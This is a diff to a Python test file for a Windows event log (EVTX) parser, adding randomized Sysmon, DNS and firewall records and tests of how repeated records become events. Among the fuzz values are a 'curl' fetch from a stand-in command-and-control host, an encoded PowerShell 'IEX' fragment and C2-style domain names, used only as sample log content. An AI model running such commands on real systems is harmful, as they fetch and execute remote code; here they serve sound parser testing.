@@ -6,7 +6,7 @@ import io
 import json
 import random
 import struct
-from collections.abc import Iterator, Sequence
+from collections.abc import Callable, Iterator, Sequence
 from dataclasses import replace
 from pathlib import Path
 from typing import Any
@@ -15,22 +15,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from lamsach.logs import evtx_events, evtx_library
-from lamsach.logs.base import FileContext
-from lamsach.logs.evtx_chunks import CHUNK_BYTES, RECORDS_START, chunks
-from lamsach.logs.evtx_elements import Names, UnusualError
-from lamsach.logs.evtx_events import EventMaker
-from lamsach.logs.evtx_library import library_texts, some_library_texts
-from lamsach.logs.evtx_plans import READS, Head, plan_of
-from lamsach.logs.evtx_rows import LEFT
-from lamsach.logs.evtx_templates import UNUSUAL, Template, Templates
-from lamsach.logs.evtx_values import value
-from lamsach.logs.formats.evtx import Evtx
-from lamsach.logs.windows_record import WindowsRecord
-from lamsach.model import Event, Refusal
-
-from .evtx_builder import file
-from .evtx_template_builder import (
+from bench.evtx_builder import (
     ANSI,
     BOOL,
     FILETIME,
@@ -47,6 +32,21 @@ from .evtx_template_builder import (
     template_chunk,
     text,
 )
+from lamsach.logs import evtx_events, evtx_library
+from lamsach.logs.base import FileContext
+from lamsach.logs.evtx_chunks import CHUNK_BYTES, RECORDS_START, chunks
+from lamsach.logs.evtx_elements import Names, UnusualError
+from lamsach.logs.evtx_events import EventMaker
+from lamsach.logs.evtx_library import library_texts, some_library_texts
+from lamsach.logs.evtx_plans import READS, Head, plan_of
+from lamsach.logs.evtx_rows import LEFT
+from lamsach.logs.evtx_templates import UNUSUAL, Template, Templates
+from lamsach.logs.evtx_values import value
+from lamsach.logs.formats.evtx import Evtx
+from lamsach.logs.windows_record import WindowsRecord
+from lamsach.model import Event, Refusal
+
+from .evtx_builder import file
 from .whole_logs import at_once, by_line
 
 SAMPLES = Path(__file__).parents[2] / ".." / "shared" / "samples" / "evtx" / "files"
@@ -83,6 +83,40 @@ def filtered(number: int, port: str, source: str = "10.0.2.17") -> Record:
     return Record(number, data, SECURITY, "Security")
 
 
+def some_connection(chance: random.Random, user: str) -> Record:
+    """A connection or packet whose ends may be stated in all ways, also badly."""
+    addresses = [
+        "10.1.1.5",
+        "0.0.0.0",
+        "::",
+        "192.0.2.7",
+        "2001:db8::7",
+        "",
+        "-",
+        "\ud800",
+        "::ffff:192.0.2.8",
+    ]
+    source, far = chance.choice(addresses), chance.choice(addresses)
+    if chance.random() < 0.5:
+        ends = strings(
+            SourceAddress=source,
+            DestAddress=far,
+            SourcePort="5",
+            DestPort="443",
+            Direction=chance.choice(["%%14592", "%%14593"]),
+        )
+        return Record(chance.randrange(5150, 5160), ends, SECURITY, "Security")
+    name = chance.choice(["", "-", "www.bad.example", "A.B"])
+    flag = ("Initiated", BOOL, chance.randrange(2).to_bytes(4, "little"))
+    ends = strings(SourceIp=source, DestinationIp=far, DestinationHostname=name, User=user)
+    ports = strings(SourcePort=chance.choice(["5", "50000"]), DestinationPort="3389")
+    more = chance.choice([{}, {"Direction": chance.choice(["in", "out"])}, {"ServerAddress": "192.0.2.1:5"}])
+    other = chance.random() < 0.3
+    return Record(
+        3, [flag, *ends, *ports, *strings(**more)], *(["Other", "Other/Operational"] if other else [])
+    )
+
+
 def some_digests(chance: random.Random) -> str:
     """Digests as Sysmon writes them, and what may be found in their place."""
     md5, sha1, sha256 = (chance.randbytes(size).hex() for size in (16, 20, 32))
@@ -110,7 +144,28 @@ def some_record(chance: random.Random) -> Record:
     written = ("UtcTime", *text("2026-06-10 16:00:00.123"))
     digests = some_digests(chance)
     ports = chance.choice(["0", "443", str(chance.randrange(65536)), "", "no"])
+    asked = chance.choice(["bot-c2.xyz", "", "-", "a b", "WWW.Unit.Example.", "\ud800", ".", "x" * 300])
+    answered = chance.choice(
+        ["::ffff:192.0.2.1;", "type:  5 cdn.bad.example;192.0.2.9;192.0.2.9;", "", "-", "\ud800"]
+    )
+    ran = chance.choice(
+        [
+            "curl http://c2.bad.example/a",
+            "b",
+            "ping 192.0.2.4",
+            "",
+            "-enc",
+            "\ud800",
+            "a.exe",
+            "SQBFAFgAIABoAHQAdABwADoALwAvAGEA",
+        ]
+    )
     kinds = [
+        lambda: some_connection(chance, user),
+        lambda: Record(1, strings(CommandLine=ran, ParentCommandLine=chance.choice(["", "SQBFAFgAIABoAHQAdABwADoALwAvAGEA", "c.example.net"]), User=user)),
+        lambda: Record(22, strings(QueryName=asked, QueryResults=answered, User=user)),
+        lambda: Record(22, strings(QueryName=asked, User=user, **chance.choice([{"DnsServerIpAddress": "192.0.2.53"}, {"Query": "other.example"}, {}]))),
+        lambda: Record(3008, strings(QueryName=asked, QueryResults=answered), "Microsoft-Windows-DNS-Client", "DNS-Client"),
         lambda: connection(chance.random() < 0.5, chance.choice(["10.1.1.5", "::1", "fe80::1"]), chance.randrange(65536), User=user),
         lambda: filtered(chance.choice([5156, 5157, 5158]), ports),
         lambda: Record(7, [written, *process, *strings(ImageLoaded="C:\\a.dll", Hashes=digests, User=user)]),
@@ -178,6 +233,37 @@ def test_what_differs_in_time_and_carried_ports_alone_is_made_once() -> None:
     assert len(maker.events) == 2
     maker.read([template_chunk([connection(False, port=port) for port in range(50)])])
     assert len(maker.events) == 52
+
+
+ONE_EVENT = {
+    "whom a machine reached": lambda at: connection(True, User="UNIT\\an", DestinationHostname=f"h{at}.example"),
+    "a packet's destination": lambda at: Record(
+        5156, strings(SourceAddress="10.1.1.5", SourcePort="5", DestAddress=f"192.0.2.{at}", DestPort="443"), SECURITY, "Security"
+    ),
+    "a question and its answer": lambda at: Record(22, strings(QueryName=f"h{at}.example", QueryResults=f"192.0.2.{at};")),
+    "a command that mentions nothing": lambda at: Record(1, strings(CommandLine=f"run.exe /n {at}", ParentCommandLine=f"{at}")),
+    "the port of a log-on": lambda at: Record(4624, strings(TargetUserName="an", IpAddress="10.1.1.9", IpPort=str(at)), SECURITY, "Security"),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("make", ONE_EVENT.values(), ids=ONE_EVENT)
+def test_what_stands_alone_makes_no_event_of_its_own(make: Callable[[int], Record]) -> None:
+    records = [make(at) for at in range(1, 41)]
+    maker = EventMaker(Evtx(FileContext("a.evtx")).event)
+    maker.read([template_chunk(records)])
+    assert len(maker.events) == 1
+    assert items_of(file(template_chunk(records))) == by_library(file(template_chunk(records)))
+
+
+def test_two_data_of_one_value_are_not_taken_for_one() -> None:
+    """A template may put the same value in two places: then what is carried over tells more than a port."""
+    flag = ("Initiated", BOOL, b"\1\0\0\0")
+    ends = [strings(SourceIp="10.1.1.5", DestinationIp=f"10.1.1.{at}") for at in range(1, 6)]
+    chunk = bytearray(template_chunk([Record(3, [flag, *both]) for both in ends]))
+    place = chunk.index(struct.pack("<BHB", 0x0D, 1, STRING))
+    chunk[place + 1 : place + 3] = struct.pack("<H", 2)
+    data = file(resealed(bytes(chunk)))
+    assert items_of(data) == by_library(data)
 
 
 def test_digests_are_carried_over_too(tmp_path: Path) -> None:
